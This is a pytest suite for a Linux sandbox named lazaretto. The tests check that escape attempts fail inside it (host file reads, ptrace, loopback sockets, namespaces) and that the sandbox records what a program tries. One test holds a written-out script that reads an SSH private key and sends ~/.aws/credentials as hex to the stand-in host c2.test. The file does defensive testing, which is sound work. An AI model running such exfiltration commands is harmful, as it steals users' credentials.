"""Attempts to get out. Each is made outside first, by an unprivileged user, to know that it would work there."""

import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
from pathlib import Path

import pytest

from lazaretto.adapters.sandbox.probe import probe
from lazaretto.adapters.sandbox.self_test import self_test
from lazaretto.adapters.sandbox.session import Order, run_order
from lazaretto.model.behaviour import Action

pytestmark = [pytest.mark.sandbox, pytest.mark.skipif(sys.platform != "linux", reason="Linux only")]
NOBODY = 65534
PYTHON = "/usr/bin/python3"


@pytest.fixture(scope="session")
def tools():
    found = probe()
    assert found.tools is not None, found.missing  # CI installs them: missing is a failure, not a reason to skip
    return found.tools


@pytest.fixture
def project():
    folder = Path(tempfile.mkdtemp(prefix="lazaretto-"))
    folder.chmod(0o755)
    shutil.copy(Path(__file__).with_name("attempts.py"), folder)
    (folder / "attempts.py").chmod(0o644)
    yield folder
    shutil.rmtree(folder)


def serve(one):
    def answer():
        while True:
            try:
                if one.type == socket.SOCK_DGRAM:
                    one.sendto(b"host", one.recvfrom(16)[1])
                else:
                    with one.accept()[0] as peer:
                        peer.sendall(b"host")
            except OSError:
                return

    threading.Thread(target=answer, daemon=True).start()


@pytest.fixture
def host(project):
    """What there is to reach, by the word that stands for it in the table below."""
    there = Path(tempfile.mkdtemp(prefix="lazaretto-host-"))
    there.chmod(0o777)
    (there / "secret").write_text("host secret")
    (there / "secret").chmod(0o644)
    sockets = [
        socket.socket(family, kind)
        for family, kind in (
            (socket.AF_INET, socket.SOCK_STREAM),
            (socket.AF_INET, socket.SOCK_DGRAM),
            (socket.AF_UNIX, socket.SOCK_STREAM),
            (socket.AF_UNIX, socket.SOCK_STREAM),
        )
    ]
    sockets[0].bind(("127.0.0.1", 0))
    sockets[1].bind(("127.0.0.1", 0))
    sockets[2].bind("\0" + there.name)
    sockets[3].bind(str(there / "socket"))
    (there / "socket").chmod(0o777)
    for one in sockets:
        if one.type == socket.SOCK_STREAM:
            one.listen()
        serve(one)
    victim = subprocess.Popen(["/bin/sleep", "60"], env={"LAZARETTO_PROOF": "1"}, user=_user())
    yield {
        "file": str(there / "secret"), "folder": str(there), "pid": str(victim.pid), "name": there.name,
        "tcp": str(sockets[0].getsockname()[1]), "udp": str(sockets[1].getsockname()[1]),
        "socket": str(there / "socket"), "host": socket.gethostname(),
    }  # fmt: skip
    victim.kill()
    victim.wait()
    for one in sockets:
        one.close()
    shutil.rmtree(there)


def _user():
    return NOBODY if os.geteuid() == 0 else None


ATTEMPTS = [
    ("read_file", "file"), ("write_file", "folder"), ("environment",), ("other_environment", "pid"),
    ("any_environment",), ("signal", "pid"), ("ptrace", "pid"), ("read_memory", "pid"), ("loopback", "tcp"),
    ("mapped_loopback", "tcp"), ("abstract", "name"), ("socket_file", "socket"), ("datagram", "udp"),
    ("user_namespace",), ("clone_user_namespace",), ("mount",), ("io_uring",), ("keyring",), ("terminal",),
    ("netlink",), ("host_name", "host"), ("machine_id",), ("many_processes",), ("disk",),
]  # fmt: skip
NO_CONTROL = [("vsock",), ("raw_address",)]
"""Blocked for a plain user outside, too, or answered by nobody: no positive control."""


@pytest.mark.parametrize("attempt", ATTEMPTS, ids=lambda one: one[0])
def test_what_works_outside_does_not_work_inside(attempt, tools, project, host, tmp_path):
    name, *words = attempt
    values = [host[word] for word in words]
    with tempfile.TemporaryDirectory(prefix="lazaretto-") as folder:
        Path(folder).chmod(0o777)
        line = [PYTHON, str(project / "attempts.py"), name, *values]
        outside = subprocess.run(line, env={"LAZARETTO_PROOF": "1"}, user=_user(), cwd=folder, capture_output=True)
    if outside.returncode != 0:
        pytest.skip(f"no positive control on this machine: {outside.stdout!r} {outside.stderr[-200:]!r}")
    Path(host["folder"], "written").unlink(missing_ok=True)
    assert _inside(tools, project, name, values) == 9
    assert not Path(host["folder"], "written").exists()
    assert sorted(path.name for path in project.iterdir()) == ["attempts.py"]


@pytest.mark.parametrize("attempt", NO_CONTROL, ids=lambda one: one[0])
def test_what_does_not_work_inside(attempt, tools, project):
    assert _inside(tools, project, attempt[0], []) == 9


def _inside(tools, project, name, values):
    os.environ["LAZARETTO_PROOF"] = "1"
    try:
        return run_order(Order(project, (PYTHON, "attempts.py", name, *values), seconds=60), tools).record.code
    finally:
        del os.environ["LAZARETTO_PROOF"]


def test_the_self_test_holds(tools):
    self_test(tools)


def test_what_is_tried_is_recorded(tools, project):
    script = (
        'cat "$HOME/.ssh/id_ed25519" >/dev/null; echo x > .git-hook; unshare -U true;'
        f'{PYTHON} -c \'import socket, pathlib; s = socket.create_connection(("c2.test", 80));'
        ' key = pathlib.Path("/home/dev/.aws/credentials").read_bytes().hex().encode();'
        ' s.sendall(b"POST /p HTTP/1.1\\r\\nHost: c2.test\\r\\nContent-Length: %d\\r\\n\\r\\n" % len(key) + key);'
        " print(s.recv(15))'"
    )
    told = run_order(Order(project, ("/bin/sh", "-c", script), seconds=30), tools)
    assert b"HTTP/1.1 200 OK" in told.output
    seen = {(event.action, event.target) for event in told.record.events}
    assert (Action.READ, "/home/dev/.ssh/id_ed25519") in seen
    assert (Action.WRITE, f"{told.record.project}/.git-hook") in seen
    assert (Action.FORBIDDEN, "unshare") in seen
    assert (Action.RESOLVE, "c2.test") in seen
    assert (Action.CONNECT, "c2.test:80") in seen
    (canary,) = [event for event in told.record.events if event.action is Action.CANARY]
    assert (canary.target, canary.detail) == ("c2.test:80", ".aws/credentials (hex)")
    assert told.record.programs[canary.process].path == PYTHON
    assert told.record.gaps == ()
    assert not (project / ".git-hook").exists()


def test_time_ends_everything(tools, project):
    mark = f"/bin/sleep 9{os.getpid()}"
    started = time.monotonic()
    told = run_order(Order(project, ("/bin/sh", "-c", f"setsid {mark} & {mark}"), seconds=1), tools)
    assert told.record.code is None
    assert time.monotonic() - started < 15
    assert not _running(mark)


def test_nothing_is_left_when_we_are_killed(tools, project):
    mark = f"/bin/sleep 8{os.getpid()}"
    code = (
        "from pathlib import Path; from lazaretto.adapters.sandbox.probe import probe;"
        "from lazaretto.adapters.sandbox.session import Order, run_order;"
        f"run_order(Order(Path({str(project)!r}), ('/bin/sh', '-c', 'setsid {mark} & {mark}')), probe().tools)"
    )
    ours = subprocess.Popen([sys.executable, "-c", code])
    end = time.monotonic() + 20
    while not _running(mark) and time.monotonic() < end:
        time.sleep(0.05)
    assert _running(mark)
    ours.send_signal(signal.SIGKILL)
    ours.wait()
    end = time.monotonic() + 10
    while _running(mark) and time.monotonic() < end:
        time.sleep(0.05)
    assert not _running(mark)


def _running(mark):
    wanted = mark.replace(" ", "\0").encode() + b"\0"
    for one in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            if one.read_bytes() == wanted:
                return True
        except OSError:
            pass
    return False
